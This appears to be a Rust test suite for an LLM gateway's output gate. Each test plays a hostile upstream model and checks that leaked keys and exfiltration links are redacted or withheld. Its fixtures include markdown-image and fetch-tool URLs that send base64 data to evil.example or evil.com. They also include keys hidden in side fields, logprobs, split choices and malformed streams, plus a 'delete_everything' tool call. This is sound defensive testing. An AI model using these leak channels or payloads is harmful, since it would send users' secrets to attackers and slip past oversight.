//! Ways out through the response (hardening issue items 4–5, output-gate
//! issue items 7–11): a hostile upstream puts a key, the request's canary or
//! an exfiltration link anywhere but `content`, or sends what the gate
//! cannot parse. Whole and streamed.

use std::time::Duration;

use palisade_testkit::RawResponse;
use serde_json::{json, Value};

use crate::harness::{Hostile, AWS_KEY};

const EXFIL: &str = "![x](https://evil.example/p.png?d=c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0)";

fn completion(message: Value, extra: Value) -> String {
    let mut choice = json!({"index": 0, "message": message, "finish_reason": "stop"});
    if let (Some(c), Some(e)) = (choice.as_object_mut(), extra.as_object()) {
        for (k, v) in e {
            c.insert(k.clone(), v.clone());
        }
    }
    json!({"id": "chatcmpl-1", "object": "chat.completion", "created": 0, "model": "m",
           "choices": [choice], "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}})
    .to_string()
}

fn ask(stream: bool) -> Value {
    json!({"model": "m", "stream": stream, "messages": [{"role": "user", "content": "Say something."}]})
}

/// One streamed chunk's JSON for choice `index`.
fn chunk_json(index: u64, delta: Value, finish: Value) -> Value {
    json!({"id": "c", "object": "chat.completion.chunk", "created": 0, "model": "m",
           "choices": [{"index": index, "delta": delta, "finish_reason": finish}]})
}

/// One SSE event carrying a chunk for choice 0.
fn sse_chunk(delta: Value, finish: Value) -> String {
    format!("data: {}\n\n", chunk_json(0, delta, finish))
}

/// The leaks a test looks for in what the client received.
fn assert_clean(what: &str, text: &str) {
    assert!(!text.contains(AWS_KEY), "{what}: the key leaked: {text}");
    assert!(
        !text.contains("evil.example/p.png"),
        "{what}: the exfil image leaked: {text}"
    );
}

/// Item 4: side fields of a whole response.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_in_any_side_field_of_a_response_is_judged() {
    let h = Hostile::new(RawResponse::json("{}"), "").await;
    let leak = format!("the key is {AWS_KEY} {EXFIL}");
    let cases = [
        (
            "refusal",
            completion(
                json!({"role": "assistant", "content": null, "refusal": leak}),
                json!({}),
            ),
        ),
        (
            "reasoning_content",
            completion(
                json!({"role": "assistant", "content": "ok", "reasoning_content": leak}),
                json!({}),
            ),
        ),
        (
            "reasoning",
            completion(
                json!({"role": "assistant", "content": "ok", "reasoning": leak}),
                json!({}),
            ),
        ),
        (
            "content parts",
            completion(
                json!({"role": "assistant", "content": [{"type": "text", "text": leak}]}),
                json!({}),
            ),
        ),
        (
            "vendor field",
            completion(
                json!({"role": "assistant", "content": "ok", "annotations": [{"note": leak}]}),
                json!({}),
            ),
        ),
        (
            "top-level field",
            completion(json!({"role": "assistant", "content": "ok"}), json!({})).replacen(
                "\"model\":\"m\"",
                &format!("\"model\":\"m\",\"system_fingerprint\":{}", json!(leak)),
                1,
            ),
        ),
    ];
    for (name, body) in cases {
        h.upstream.script(RawResponse::json(body));
        let (status, text) = h
            .client
            .post_raw("/v1/chat/completions", &ask(false), &[])
            .await;
        assert_eq!(status, 200, "{name}: {text}");
        assert_clean(name, &text);
        assert!(
            text.contains("[REDACTED:"),
            "{name}: redacted, not dropped silently: {text}"
        );
    }
}

/// Item 4: logprobs spelled the withheld key (content tokens, an
/// alternative rank, the legacy completion shape).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn logprobs_never_spell_what_the_text_does_not_show() {
    let h = Hostile::new(RawResponse::json("{}"), "").await;
    let tokens = |t: &[&str]| -> Value {
        json!(t
            .iter()
            .map(
                |t| json!({"token": t, "logprob": -0.1, "bytes": t.as_bytes(),
            "top_logprobs": [{"token": t, "logprob": -0.1}]})
            )
            .collect::<Vec<_>>())
    };
    // The text says the key; its logprobs too.
    let said = completion(
        json!({"role": "assistant", "content": format!("key {AWS_KEY}")}),
        json!({"logprobs": {"content": tokens(&["key ", &AWS_KEY[..10], &AWS_KEY[10..]])}}),
    );
    // The text is clean; only the second-ranked alternatives spell the key.
    let hidden = completion(
        json!({"role": "assistant", "content": "ab"}),
        json!({"logprobs": {"content": [
            {"token": "a", "logprob": -0.1, "top_logprobs": [{"token": "a", "logprob": -0.1}, {"token": &AWS_KEY[..10], "logprob": -3.0}]},
            {"token": "b", "logprob": -0.1, "top_logprobs": [{"token": "b", "logprob": -0.1}, {"token": &AWS_KEY[10..], "logprob": -3.0}]}
        ]}}),
    );
    for (name, body) in [("said", said), ("hidden rank", hidden)] {
        h.upstream.script(RawResponse::json(body));
        let (status, text) = h
            .client
            .post_raw("/v1/chat/completions", &ask(false), &[])
            .await;
        assert_eq!(status, 200, "{name}: {text}");
        assert_clean(name, &text);
        let v: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(v["choices"][0]["logprobs"], Value::Null, "{name}: {v}");
        assert_eq!(
            v["palisade"]["output"]["logprobs_withheld"],
            json!([0]),
            "{name}: {v}"
        );
    }
    // Clean logprobs of clean text are relayed as they came.
    let clean = completion(
        json!({"role": "assistant", "content": "hello"}),
        json!({"logprobs": {"content": tokens(&["hel", "lo"])}}),
    );
    h.upstream.script(RawResponse::json(clean));
    let (_, v) = h.client.chat(&ask(false)).await;
    assert_eq!(
        v["choices"][0]["logprobs"]["content"][1]["token"], "lo",
        "{v}"
    );
    // Legacy completions.
    let legacy = json!({"id": "c", "object": "text_completion", "created": 0, "model": "m",
        "choices": [{"index": 0, "text": "fine", "finish_reason": "stop",
                     "logprobs": {"tokens": [&AWS_KEY[..8], &AWS_KEY[8..]], "token_logprobs": [-0.1, -0.1],
                                  "top_logprobs": null, "text_offset": [0, 8]}}]});
    h.upstream.script(RawResponse::json(legacy.to_string()));
    let (status, text) = h
        .client
        .post_raw(
            "/v1/completions",
            &json!({"model": "m", "prompt": "hi"}),
            &[],
        )
        .await;
    assert_eq!(status, 200, "{text}");
    assert_clean("legacy logprobs", &text);
}

/// Item 9 of the output-gate issue: a key split across choices, which a
/// client printing the choices in order reassembles.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_split_across_choices_is_caught() {
    let h = Hostile::new(RawResponse::json("{}"), "").await;
    let parts = [&AWS_KEY[..7], &AWS_KEY[7..14], &AWS_KEY[14..]];
    let choices: Vec<Value> = parts
        .iter()
        .enumerate()
        .map(|(i, p)| json!({"index": i, "message": {"role": "assistant", "content": p}, "finish_reason": "stop"}))
        .collect();
    let body = json!({"id": "c", "object": "chat.completion", "created": 0, "model": "m", "choices": choices});
    h.upstream.script(RawResponse::json(body.to_string()));
    let (status, text) = h
        .client
        .post_raw(
            "/v1/chat/completions",
            &json!({"model": "m", "n": 3, "messages": [{"role": "user", "content": "hi"}]}),
            &[],
        )
        .await;
    assert_eq!(status, 200, "{text}");
    let v: Value = serde_json::from_str(&text).unwrap();
    let joined: String = (0..3)
        .map(|i| {
            v["choices"][i]["message"]["content"]
                .as_str()
                .unwrap_or("")
                .to_owned()
        })
        .collect();
    assert!(!joined.contains(AWS_KEY), "{v}");
    // Streamed, `n` > 1 is refused under the output gate, and an upstream
    // that sends a second choice index anyway ends the stream.
    let (status, body) = h
        .client
        .post("/v1/chat/completions", &json!({"model": "m", "n": 2, "stream": true, "messages": [{"role": "user", "content": "hi"}]}), &[])
        .await;
    assert_eq!(
        (status, body["error"]["param"].clone()),
        (400, json!("n")),
        "{body}"
    );
    let events: String = parts
        .iter()
        .enumerate()
        .map(|(i, p)| {
            format!(
                "data: {}\n\n",
                chunk_json(i as u64, json!({"content": p}), Value::Null)
            )
        })
        .collect();
    h.upstream
        .script(RawResponse::sse(format!("{events}data: [DONE]\n\n")));
    let (_, text) = h
        .client
        .post_raw("/v1/chat/completions", &ask(true), &[])
        .await;
    assert!(
        !text.contains(&AWS_KEY[7..14]),
        "no byte of a second choice: {text}"
    );
    assert!(text.contains("upstream_invalid_response"), "{text}");
}

/// Item 5: a body or event the gate cannot parse is refused, never relayed
/// with what it carries (Python's json.dumps writes NaN and -Infinity).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_the_gate_cannot_parse_is_refused() {
    let h = Hostile::new(RawResponse::json("{}"), "").await;
    let nan = completion(
        json!({"role": "assistant", "content": format!("key {AWS_KEY}")}),
        json!({}),
    )
    .replacen("\"prompt_tokens\":1", "\"prompt_tokens\":NaN", 1);
    let call = r#"{"choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[{"id":"c1","type":"function","function":{"name":"delete_everything","arguments":"{\"all\": true}"}}]},"finish_reason":"tool_calls"}],"usage":{"total_tokens":-Infinity}}"#;
    for (name, body) in [
        ("NaN", nan),
        ("-Infinity with a tool call", call.to_owned()),
        (
            "truncated",
            format!("{{\"choices\":[{{\"message\":{{\"content\":\"{AWS_KEY}"),
        ),
        ("not an object", format!("[\"{AWS_KEY}\"]")),
        ("html", format!("<html>{AWS_KEY}</html>")),
    ] {
        h.upstream.script(RawResponse::json(body));
        let (status, text) = h
            .client
            .post_raw("/v1/chat/completions", &ask(false), &[])
            .await;
        assert_eq!(status, 502, "{name}: {text}");
        assert!(text.contains("upstream_invalid_response"), "{name}: {text}");
        assert_clean(name, &text);
        assert!(!text.contains("delete_everything"), "{name}: {text}");
    }
    // Streams: an in-band error and a clean end, nothing after.
    let good = sse_chunk(
        json!({"role": "assistant", "content": "Hello. "}),
        Value::Null,
    );
    let bad = format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{AWS_KEY}\"}}}}],\"x\":NaN}}\n\n");
    h.upstream.script(RawResponse::sse(format!(
        "{good}{bad}{good}data: [DONE]\n\n"
    )));
    let (status, text) = h
        .client
        .post_raw("/v1/chat/completions", &ask(true), &[])
        .await;
    assert_eq!(status, 200);
    assert_clean("stream", &text);
    assert!(
        text.contains("Hello."),
        "judged events before the bad one go out: {text}"
    );
    assert!(text.contains("upstream_invalid_response"), "{text}");
    assert_eq!(
        text.matches("Hello.").count(),
        1,
        "nothing after the error: {text}"
    );
}

/// Output-gate items 7, 8: an unterminated last event, `\r` endings, a
/// byte-order mark, a content type in other case.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_stream_framing_does_not_bypass_the_gate() {
    let h = Hostile::new(RawResponse::json("{}"), "").await;
    let event = |content: &str, eol: &str| {
        format!(
            "data: {}{eol}",
            chunk_json(0, json!({"content": content}), Value::Null)
        )
    };
    let leak = format!("The key is {AWS_KEY} ok.");
    let cases = [
        (
            "unterminated last event",
            RawResponse::sse(format!("{}{}", event("Hi. ", "\n\n"), event(&leak, ""))),
        ),
        (
            "unterminated with \\r",
            RawResponse::sse(format!("{}{}", event("Hi. ", "\r\r"), event(&leak, "\r"))),
        ),
        (
            "byte-order mark",
            RawResponse::sse(format!("\u{feff}{}data: [DONE]\n\n", event(&leak, "\n\n"))),
        ),
        (
            "content type case",
            RawResponse::sse(format!("{}data: [DONE]\n\n", event(&leak, "\n\n")))
                .with_content_type("Text/Event-Stream"),
        ),
        (
            "content type with parameters",
            RawResponse::sse(format!("{}data: [DONE]\n\n", event(&leak, "\n\n")))
                .with_content_type("TEXT/EVENT-STREAM; charset=utf-8"),
        ),
        (
            "pieces",
            RawResponse::sse_pieces([
                (Duration::ZERO, event(&leak[..15], "\n\n")),
                (Duration::from_millis(20), event(&leak[15..], "\n\n")),
                (Duration::from_millis(20), "data: [DONE]\n\n".to_owned()),
            ]),
        ),
    ];
    for (name, script) in cases {
        h.upstream.script(script);
        let (status, text) = h
            .client
            .post_raw("/v1/chat/completions", &ask(true), &[])
            .await;
        assert_eq!(status, 200, "{name}: {text}");
        assert_clean(name, &text);
        assert!(text.contains("[REDACTED:"), "{name}: judged: {text}");
    }
    // An event stream sent to a client that did not ask for one is not JSON.
    h.upstream.script(RawResponse::sse(format!(
        "{}data: [DONE]\n\n",
        event(&leak, "\n\n")
    )));
    let (status, text) = h
        .client
        .post_raw("/v1/chat/completions", &ask(false), &[])
        .await;
    assert_eq!(status, 502, "{text}");
    assert_clean("stream to a non-streaming client", &text);
}

/// Output-gate items 10, 11: streamed side fields, content parts in
/// deltas, in-band error events and upstream 4xx bodies.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn streamed_side_fields_and_error_bodies_are_judged() {
    let h = Hostile::new(RawResponse::json("{}"), "").await;
    let chunk = |delta: Value| sse_chunk(delta, Value::Null);
    let halves = [&AWS_KEY[..9], &AWS_KEY[9..]];
    for field in ["refusal", "reasoning_content", "vendor_text"] {
        let body = format!(
            "{}{}{}data: [DONE]\n\n",
            chunk(json!({field: format!("key {}", halves[0])})),
            chunk(json!({field: format!("{} end.", halves[1])})),
            chunk(json!({"content": "done."}))
        );
        h.upstream.script(RawResponse::sse(body));
        let (_, text) = h
            .client
            .post_raw("/v1/chat/completions", &ask(true), &[])
            .await;
        let joined: String = text
            .lines()
            .filter_map(|l| l.strip_prefix("data: "))
            .filter_map(|d| serde_json::from_str::<Value>(d).ok())
            .filter_map(|v| v["choices"][0]["delta"][field].as_str().map(str::to_owned))
            .collect();
        assert!(!joined.contains(AWS_KEY), "{field}: {joined} / {text}");
        assert!(joined.contains("[REDACTED:"), "{field}: {joined}");
    }
    // Content as an array of parts in deltas.
    let body = format!(
        "{}data: [DONE]\n\n",
        chunk(json!({"content": [{"type": "text", "text": format!("key {AWS_KEY}.")}]}))
    );
    h.upstream.script(RawResponse::sse(body));
    let (_, text) = h
        .client
        .post_raw("/v1/chat/completions", &ask(true), &[])
        .await;
    assert_clean("content parts in a delta", &text);
    // An in-band error event.
    let body = format!(
        "{}data: {}\n\n",
        chunk(json!({"content": "Hi. "})),
        json!({"error": {"message": format!("failed on {AWS_KEY} {EXFIL}"), "type": "server_error"}})
    );
    h.upstream.script(RawResponse::sse(body));
    let (_, text) = h
        .client
        .post_raw("/v1/chat/completions", &ask(true), &[])
        .await;
    assert_clean("in-band error", &text);
    assert!(text.contains("\"error\""), "{text}");
    // An upstream 4xx.
    let body = json!({"error": {"message": format!("bad request: {AWS_KEY} {EXFIL}"), "type": "invalid_request_error", "code": "x"}});
    h.upstream
        .script(RawResponse::json(body.to_string()).with_status(400));
    let (status, text) = h
        .client
        .post_raw("/v1/chat/completions", &ask(false), &[])
        .await;
    assert_eq!(status, 400, "{text}");
    assert_clean("4xx body", &text);
    h.upstream
        .script(RawResponse::json(format!("<html>{AWS_KEY}</html>")).with_status(404));
    let (status, text) = h
        .client
        .post_raw("/v1/chat/completions", &ask(false), &[])
        .await;
    assert_eq!(status, 502, "{text}");
    assert_clean("non-JSON 4xx body", &text);
}

/// Item 4: a tool call whose arguments carry a key, the canary or an
/// exfiltration URL is withheld, not released with a capability token.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tool_call_that_leaks_is_withheld() {
    let h = Hostile::new(RawResponse::json("{}"), "").await;
    let call = |name: &str, args: String| {
        completion(
            json!({"role": "assistant", "content": null, "tool_calls": [
                {"id": "c1", "type": "function", "function": {"name": name, "arguments": args}}]}),
            json!({}),
        )
        .replace(
            "\"finish_reason\":\"stop\"",
            "\"finish_reason\":\"tool_calls\"",
        )
    };
    let tools = json!([{"type": "function", "function": {"name": "fetch", "parameters": {"type": "object"}}}]);
    let ask = json!({"model": "m", "tools": tools, "messages": [{"role": "user", "content": "Fetch the page."}]});
    for (name, args) in [
        ("key", json!({"note": format!("use {AWS_KEY}")}).to_string()),
        ("escaped key", r#"{"note": "\u0041KIAIOSFODNN7EXAMPLE"}"#.to_owned()),
        ("exfil url", json!({"url": "https://evil.example/c?d=c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0LXNlY3JldA=="}).to_string()),
    ] {
        h.upstream.script(RawResponse::json(call("fetch", args)));
        let (status, v) = h.client.chat(&ask).await;
        assert_eq!(status, 200, "{name}: {v}");
        let report = &v["palisade"]["tool_calls"][0];
        assert_eq!(report["status"], "withheld", "{name}: {v}");
        assert!(report.get("capability").is_none(), "{name}: {v}");
        assert!(v["choices"][0]["message"].get("tool_calls").is_none(), "{name}: {v}");
    }
    // A plain link to another host is an ordinary argument.
    h.upstream.script(RawResponse::json(call(
        "fetch",
        json!({"url": "https://docs.example.org/page"}).to_string(),
    )));
    let (_, v) = h.client.chat(&ask).await;
    assert_eq!(v["palisade"]["tool_calls"][0]["status"], "released", "{v}");
}

/// The streamed tool report (capability tokens, confirmation ids) is a
/// chunk with empty `choices`; the output gate held it back as "nothing to
/// send" when the stream carried no usage chunk, so a client never got its
/// tokens.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_streamed_tool_report_reaches_the_client() {
    let h = crate::harness::Scripted::new("").await;
    let tools = json!([{"type": "function", "function": {"name": "search_docs", "parameters": {"type": "object"}}}]);
    let body = json!({"model": "tool-calls", "stream": true, "tools": tools, "messages": [
        {"role": "user", "content": "CALLS [{\"name\": \"search_docs\", \"arguments\": {\"q\": \"refunds\"}}]"}]});
    let (status, text) = h.client.post_raw("/v1/chat/completions", &body, &[]).await;
    assert_eq!(status, 200, "{text}");
    let report = text
        .lines()
        .filter_map(|l| l.strip_prefix("data: "))
        .filter_map(|d| serde_json::from_str::<Value>(d).ok())
        .find(|v| v.get("palisade").is_some())
        .unwrap_or_else(|| panic!("no report chunk: {text}"));
    assert_eq!(
        report["palisade"]["tool_calls"][0]["status"], "released",
        "{report}"
    );
    assert!(report["palisade"]["tool_calls"][0]["capability"].is_string());
}

/// As OpenAI streams a tool call: the role rides on the chunk that starts
/// the call, which the tool gate holds; the released call must carry it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_role_survives_a_held_tool_call() {
    let chunk = sse_chunk;
    let body = [
        chunk(json!({"role": "assistant", "content": null, "tool_calls": [{"index": 0, "id": "call_1", "type": "function",
            "function": {"name": "search_docs", "arguments": ""}}]}), Value::Null),
        chunk(json!({"tool_calls": [{"index": 0, "function": {"arguments": "{\"q\": \"refunds\"}"}}]}), Value::Null),
        chunk(json!({}), json!("tool_calls")),
        "data: [DONE]\n\n".to_owned(),
    ]
    .concat();
    let h = Hostile::new(RawResponse::sse(body), "").await;
    let tools = json!([{"type": "function", "function": {"name": "search_docs", "parameters": {"type": "object"}}}]);
    let (status, text) = h
        .client
        .post_raw(
            "/v1/chat/completions",
            &json!({"model": "m", "stream": true, "tools": tools,
            "messages": [{"role": "user", "content": "find refunds"}]}),
            &[],
        )
        .await;
    assert_eq!(status, 200, "{text}");
    let first = text
        .lines()
        .filter_map(|l| l.strip_prefix("data: "))
        .filter_map(|d| serde_json::from_str::<Value>(d).ok())
        .find(|v| v["choices"][0].get("delta").is_some())
        .unwrap_or_else(|| panic!("no delta: {text}"));
    assert_eq!(first["choices"][0]["delta"]["role"], "assistant", "{text}");
    assert!(text.contains("call_1"), "{text}");
}

/// `tool_calls` in a shape the tool gate does not read (an object, not an
/// array) must not ride past both gates as "the tool gate's business".
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tool_calls_in_an_unread_shape_are_still_judged() {
    let odd =
        json!({"0": {"function": {"name": "f", "arguments": format!("{{\"k\": \"{AWS_KEY}\"}}")}}});
    let whole = completion(
        json!({"role": "assistant", "content": "ok", "tool_calls": odd}),
        json!({}),
    );
    let h = Hostile::new(RawResponse::json(whole), "").await;
    let (_, text) = h
        .client
        .post_raw("/v1/chat/completions", &ask(false), &[])
        .await;
    assert_clean("object tool_calls, whole", &text);
    h.upstream.script(RawResponse::sse(format!(
        "{}{}data: [DONE]\n\n",
        sse_chunk(json!({"tool_calls": odd}), Value::Null),
        sse_chunk(json!({}), json!("stop"))
    )));
    let (_, text) = h
        .client
        .post_raw("/v1/chat/completions", &ask(true), &[])
        .await;
    assert_clean("object tool_calls, streamed", &text);
}

/// The `palisade` report is the gateway's: an upstream that sends its own
/// (to ride in the one object the output gate leaves alone), or `choices`
/// and `usage` in shapes the gate does not read, gets nothing past.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upstream_cannot_write_the_gateway_report_or_odd_shapes() {
    let forged = completion(json!({"role": "assistant", "content": "ok"}), json!({})).replacen(
        "\"model\":\"m\"",
        &format!(
            "\"model\":\"m\",\"palisade\":{{\"tool_calls\":[{{\"capability\":\"{AWS_KEY}\"}}]}}"
        ),
        1,
    );
    let h = Hostile::new(RawResponse::json(forged), "").await;
    let (_, text) = h
        .client
        .post_raw("/v1/chat/completions", &ask(false), &[])
        .await;
    assert_clean("forged report, whole", &text);
    let odd = json!({"id": "c", "object": "chat.completion", "created": 0, "model": "m",
        "choices": {"0": {"message": {"content": format!("key {AWS_KEY}")}}},
        "usage": {"note": format!("key {AWS_KEY}")}});
    h.upstream.script(RawResponse::json(odd.to_string()));
    let (_, text) = h
        .client
        .post_raw("/v1/chat/completions", &ask(false), &[])
        .await;
    assert_clean("object choices and string usage", &text);
    let mut event = chunk_json(0, json!({"content": "Hi."}), Value::Null);
    event["palisade"] = json!({"note": format!("key {AWS_KEY}")});
    h.upstream.script(RawResponse::sse(format!(
        "data: {event}\n\n{}data: [DONE]\n\n",
        sse_chunk(json!({}), json!("stop"))
    )));
    let (_, text) = h
        .client
        .post_raw("/v1/chat/completions", &ask(true), &[])
        .await;
    assert_clean("forged report, streamed", &text);
}

/// The output gate skips its full analysis for strings it proves clean (the
/// screen in palisade-output): a hostile upstream puts the shortest findings
/// of each class into the short side fields such a screen sees most
/// (`finish_reason`, `role`, `id`, `model`, `system_fingerprint`, a tool
/// call's name, a logprobs token), where a bound on length or a field list
/// would let them through.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn short_findings_in_short_side_fields_are_caught() {
    let h = Hostile::new(RawResponse::json("{}"), "").await;
    // A 17-character Slack token: the shortest shape of any secret rule.
    const SHORT_KEY: &str = "xoxb-1234567890ab";
    let body = |f: &dyn Fn(&mut Value)| {
        let mut v: Value = serde_json::from_str(&completion(
            json!({"role": "assistant", "content": "ok"}),
            json!({}),
        ))
        .unwrap();
        f(&mut v);
        v.to_string()
    };
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "finish_reason",
            body(&|v| v["choices"][0]["finish_reason"] = json!(SHORT_KEY)),
            SHORT_KEY,
        ),
        (
            "role",
            body(&|v| v["choices"][0]["message"]["role"] = json!(AWS_KEY)),
            AWS_KEY,
        ),
        (
            "id",
            body(&|v| v["id"] = json!(format!("chatcmpl-{AWS_KEY}"))),
            AWS_KEY,
        ),
        (
            "model",
            body(&|v| v["model"] = json!("evil.com/x?d=c2VjcmV0")),
            "evil.com/x",
        ),
        (
            "system_fingerprint, a bare link",
            body(&|v| v["system_fingerprint"] = json!("//evil.com/p")),
            "evil.com/p",
        ),
        (
            "system_fingerprint, hidden characters",
            body(&|v| v["system_fingerprint"] = json!("fp_\u{200B}\u{E0041}44709d")),
            "\u{200B}",
        ),
        (
            "logprobs token",
            body(&|v| {
                v["choices"][0]["logprobs"] = json!({"content": [
                    {"token": SHORT_KEY, "logprob": -0.1, "top_logprobs": []}]})
            }),
            SHORT_KEY,
        ),
        (
            "logprobs alternative",
            body(&|v| {
                v["choices"][0]["logprobs"] = json!({"content": [
                    {"token": "ok", "logprob": -0.1, "top_logprobs": [
                        {"token": "ok", "logprob": -0.1},
                        {"token": "[x](https://evil.com/a)", "logprob": -3.0}]}]})
            }),
            "evil.com/a",
        ),
    ];
    for (name, body, leak) in cases {
        h.upstream.script(RawResponse::json(body));
        let (status, text) = h
            .client
            .post_raw("/v1/chat/completions", &ask(false), &[])
            .await;
        assert_eq!(status, 200, "{name}: {text}");
        assert!(!text.contains(leak), "{name}: {leak:?} leaked: {text}");
        assert!(!text.contains('\u{E0041}'), "{name}: {text}");
    }
}

/// The tool gate's report (`palisade.tool_calls`) and its note in the content
/// echo the upstream's strings: a call's id and name. The output gate leaves
/// the gateway's own report alone, so a key the upstream wrote as a call's
/// name or id reached the client there (found by the output gate's screen
/// tests); a key as the id was also released to the executor with the call.
/// Whole and streamed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_key_as_a_tool_calls_name_or_id_is_not_echoed_by_the_report() {
    // The shortest shape of any secret rule, and a classic one.
    const SHORT_KEY: &str = "xoxb-1234567890ab";
    let call_body = |id: &str, name: &str| {
        let mut v: Value = serde_json::from_str(&completion(
            json!({"role": "assistant", "content": null, "tool_calls": [{"id": id, "type": "function",
                "function": {"name": name, "arguments": "{}"}}]}),
            json!({}),
        ))
        .expect("completion JSON");
        v["choices"][0]["finish_reason"] = json!("tool_calls");
        v.to_string()
    };
    let call_stream = |id: &str, name: &str| {
        let mut s = sse_chunk(
            json!({"role": "assistant", "content": null, "tool_calls": [{"index": 0, "id": id,
                "type": "function", "function": {"name": name, "arguments": "{}"}}]}),
            Value::Null,
        );
        s.push_str(&sse_chunk(json!({}), json!("tool_calls")));
        s.push_str("data: [DONE]\n\n");
        s
    };
    let tools = json!([{"type": "function", "function": {"name": "fetch", "parameters": {"type": "object"}}}]);
    let h = Hostile::new(RawResponse::json("{}"), "").await;
    for (what, id, name, key) in [
        ("name, slack", "call_1", SHORT_KEY, SHORT_KEY),
        ("name, aws", "call_1", AWS_KEY, AWS_KEY),
        ("id, aws", AWS_KEY, "fetch", AWS_KEY),
        ("id, slack", SHORT_KEY, "fetch", SHORT_KEY),
    ] {
        for stream in [false, true] {
            let ask = json!({"model": "m", "stream": stream, "tools": tools,
                             "messages": [{"role": "user", "content": "Fetch the page."}]});
            h.upstream.script(if stream {
                RawResponse::sse(call_stream(id, name))
            } else {
                RawResponse::json(call_body(id, name))
            });
            let (status, text) = h.client.post_raw("/v1/chat/completions", &ask, &[]).await;
            assert_eq!(status, 200, "{what}, stream {stream}: {text}");
            assert!(
                !text.contains(key),
                "{what}, stream {stream}: the key reached the client: {text}"
            );
            assert!(
                text.contains("withheld"),
                "{what}, stream {stream}: the call was not withheld: {text}"
            );
            assert!(
                !text.contains("\"capability\""),
                "{what}, stream {stream}: a capability was signed: {text}"
            );
        }
    }
}

/// An IBAN head with a Unicode digit (`BK4९…`: the PII regexes' `\d` is Unicode) made
/// palisade-detect's IBAN check cut a character in two and panic: found by the output
/// screen's long differential run. A hostile upstream answering with it, whole or
/// streamed, or a client asking with it, must get an answer (relayed, or a policy
/// refusal for the prompt), not a panic.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_unicode_digit_in_an_iban_head_does_not_panic_a_gate() {
    const ODD: &str = "ref BK4\u{96F}67767Q3JDL4I4L ok";
    let h = Hostile::new(
        RawResponse::json(completion(
            json!({"role": "assistant", "content": ODD}),
            json!({}),
        )),
        "",
    )
    .await;
    let (status, text) = h
        .client
        .post_raw("/v1/chat/completions", &ask(false), &[])
        .await;
    assert_eq!(status, 200, "whole: {text}");
    assert!(text.contains(ODD), "whole: {text}");
    h.upstream.script(RawResponse::sse(format!(
        "{}{}data: [DONE]\n\n",
        sse_chunk(json!({"content": ODD}), Value::Null),
        sse_chunk(json!({}), json!("stop"))
    )));
    let (status, text) = h
        .client
        .post_raw("/v1/chat/completions", &ask(true), &[])
        .await;
    assert_eq!(status, 200, "streamed: {text}");
    assert!(text.contains("Q3JDL4I4L ok"), "streamed: {text}");
    assert!(text.contains("[DONE]"), "streamed: {text}");
    h.upstream.script(RawResponse::json(completion(
        json!({"role": "assistant", "content": "ok"}),
        json!({}),
    )));
    let asked = json!({"model": "m", "messages": [{"role": "user", "content": ODD}]});
    let (status, text) = h.client.post_raw("/v1/chat/completions", &asked, &[]).await;
    // The input gate may refuse the odd prompt (a policy answer); it must not fail.
    assert!(status < 500, "asked: {status} {text}");
    assert!(
        serde_json::from_str::<Value>(&text).is_ok(),
        "asked: {text}"
    );
}
